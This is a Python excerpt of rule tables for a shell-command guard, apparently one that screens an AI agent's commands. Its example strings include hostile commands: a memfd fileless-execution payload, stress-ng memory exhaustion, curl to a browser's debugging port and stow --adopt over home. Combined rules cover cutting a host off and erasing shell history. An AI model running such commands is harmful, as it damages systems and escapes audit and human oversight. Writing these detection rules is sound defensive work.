        "recovery": "Install it again (`pyenv install 3.11.9`, `uv python install 3.11`) and recreate the "
        "environments made from it.",
        "match": {"cmd": ("pyenv", "uv", "asdf", "mise", "rtx", "nvm", "fnm", "rustup", "conda", "rye"),
                  "sub": ("uninstall", "python uninstall", "toolchain uninstall", "toolchain remove",
                          "remove python", "toolchain remove"),
                  },
        "examples": {"match": ["pyenv uninstall -f 3.11.9", "uv python uninstall 3.11", "nvm uninstall 18",
                               "rustup toolchain uninstall stable"],
                     "no_match": ["pyenv install 3.12.1", "uv python list", "uv pip uninstall requests"]},
    },
    {
        # `stress-ng --vm 4 --vm-bytes 95% --timeout 0`: load generators told to take the machine's CPU
        # or memory with no end: every other process (services, the guard's hook) starves or is killed
        # by the out-of-memory killer
        "id": "sys.resource-exhaust",
        "level": "destructive",
        "reason": "runs a load generator with no time limit, or on most of the memory: the machine's "
        "other processes starve",
        "safer": "Give it a short `--timeout` and a modest share (`--vm-bytes 25%`), in a container with "
        "limits.",
        "recovery": "Kill it (`pkill stress-ng`) and restart what the out-of-memory killer took.",
        "match": {"cmd": ("stress-ng", "stress", "memtester"),
                  "words_any": ("--timeout=0", "0", "--vm-bytes=9[0-9]%", "--vm-bytes=100%", "--cpu=0")},
        "examples": {"match": ["nohup stress-ng --cpu 0 --vm 4 --vm-bytes 95% --timeout 0",
                               "stress --cpu 8 --timeout 0"],
                     "no_match": ["stress-ng --cpu 2 --timeout 30s --metrics-brief"]},
    },
    {
        # `python3 -c "f=os.memfd_create('x'); os.write(f, blob); os.execv('/proc/self/fd/%d' % f, …)"`: a
        # program copied into an anonymous memory file and run from there. Nothing is on disk for the
        # judge to read, for the human asked to approve to open, or for the audit to name: a pause that
        # would ask about it is a stop, as a payload only the machine can read is
        "id": "sys.exec-from-memory",
        "level": "forbidden",
        "reason": "runs a program from an anonymous memory file (memfd): no file on disk for the guard to "
        "read, the human to open, or the audit to name",
        "safer": "Write the program to a file in the project, read it, and run it from there.",
        "recovery": "Kill the process (`pgrep -af memfd`); what it did is unknown until it is found.",
        "match": {"cmd": ("python", "python3", "perl", "ruby", "node", "php"),
                  "code": r"(?s)\A(?=.*(?:memfd_create|memfd\b|syscall\s*\(\s*(?:319|279|356|385)\b))"
                  r"(?=.*(?:/proc/(?:self|\$\$|\$\{?\w+\}?|%d|\{[^}]*\}|\d+)/fd/|/dev/fd/"
                  r"|fexecve|execveat))"},
        "examples": {
            "match": ["python3 -c \"import os,sys;fd=os.memfd_create('k',0);"
                      "os.write(fd,sys.stdin.buffer.read());"
                      "os.execv(f'/proc/self/fd/{fd}',['k'])\" < /tmp/payload",
                      "perl -e 'my $n=syscall(319,\"x\",1); open(my $f,\">&=\".$n); print $f `cat b.bin`; "
                      "exec {\"/proc/$$/fd/$n\"} \"x\"'"],
            "no_match": ["python3 -c \"import os; fd=os.memfd_create('buf'); os.write(fd, b'x'); "
                         "print(os.lseek(fd, 0, 1))\"",
                         "python3 -c \"import os; print(os.listdir('/proc/self/fd'))\"",
                         "python3 -c \"import os; os.execv('/usr/bin/env', ['env'])\""]},
    },
    {
        # `curl -s http://127.0.0.1:9222/json`: a browser's remote-debugging endpoint hands whoever asks a
        # socket that drives every tab, the human's open operator console and logged-in sessions included
        "id": "sys.browser-debug-port",
        "level": "destructive",
        "reason": "talks to a browser's remote-debugging port on this machine: whoever holds it drives the "
        "human's tabs, logged-in sessions and the operator console",
        "safer": "Drive a browser the test starts itself (a headless one on its own profile).",
        "recovery": "Close the browser's debugging port (restart it without --remote-debugging-port).",
        "match": {"cmd": ("curl", "wget", "websocat", "wscat", "http", "xh", "nc", "ncat"),
                  "words_any": ("*127.0.0.1:9222*", "*localhost:9222*", "*[[]::1[]]:9222*",
                                "*127.0.0.1:9229*", "*localhost:9229*")},
        "examples": {"match": ["curl -s http://127.0.0.1:9222/json",
                               "websocat ws://localhost:9222/devtools/page/1"],
                     "no_match": ["curl -s http://127.0.0.1:8000/health", "curl -s localhost:3000"]},
    },
    {
        # `stow --adopt -t ~ claude`: stow links a package's files into the target, and with --adopt
        # first moves the target's existing files into the package: home's settings are swapped for the
        # package's
        "id": "sys.stow-adopt-home",
        "level": "dangerous",
        "reason": "links a dotfiles package over the home directory, adopting (moving away) the files "
        "already there: the user's settings are replaced by the package's",
        "safer": "Run `stow -n -v` first to see what it would do, and without --adopt.",
        "recovery": "`stow -D PACKAGE` and restore the adopted files from the package directory.",
        "match": {"cmd": ("stow",), "words_any": ("--adopt", "--override=*", "--override")},
        "examples": {"match": ["stow --adopt -d ~/project/dotfiles -t ~ claude"],
                     "no_match": ["stow -n -v -t ~ vim", "stow -D vim"]},
    },
]
# one rule per program family above: the same reason, safer way and recovery
RULES += [
    {
        "id": f"sys.model-shell-{tail}",
        "extends_generic": True,
        "level": "destructive",
        "reason": "has a language model write shell commands and runs them: what runs is chosen after this "
        "line is judged, and no guard sees it",
        "safer": "Ask the model for the command without running it, then run the command it gives as its "
        "own line, where it is judged.",
        "recovery": "Read the tool's history of what it ran (its log or the shell history) and undo each "
        "step.",
        "match": {"cmd": cmds, **condition, "words_none": ("--help", "-h", "--version", "-v")},
        "examples": {"match": matches, "no_match": no_matches},
    }
    for tail, cmds, condition, matches, no_matches in _MODEL_SHELLS
]


# Effects two parts of one line have together that neither has alone: when the line's verdicts carry a
# rule of every group, the line is judged as the combination (classify/combined.py).
COMBINED = [
    {
        "id": "sys.host-cut-off",
        "level": "forbidden",
        "irreversible": True,
        "all_of": (("sys.remote-access-off",), ("sys.network-off", "sys.network-off-ifdown",
                                                  "sys.default-route-removed", "sys.routes-flushed")),
        "reason": "switches off both the remote-access daemon and the network: the machine cannot be "
        "reached to undo it",
        "safer": "Change one at a time, from a console you can reach without either, with a timed "
        "rollback (`netplan try`, `at now + 5 min <<< 'systemctl start sshd'`).",
        "recovery": "Only from the machine's console (the provider's serial console or a person on site).",
    },
    {
        # each alone leaves a copy: `history -c` clears the shell's memory and the file keeps the record;
        # the file deleted or emptied is written again from memory when the shell exits. Both at once (or
        # the file erased and recording switched off) leave nothing of what was run
        "id": "trace.history-erased-every-way",
        "level": "forbidden",
        "irreversible": True,
        "all_of": (("trace.history-file",), ("trace.history-clear", "trace.history-off")),
        "reason": "erases the shell history file and also clears the shell's own copy or stops it "
        "recording: no record of what was run is left anywhere",
        "safer": "Remove the one line that holds a secret (`history -d N`), and leave the file alone.",
        "recovery": "None for what was recorded, except from backups of the home directory; restore "
        "HISTFILE in the shell's start-up file.",
    },
]
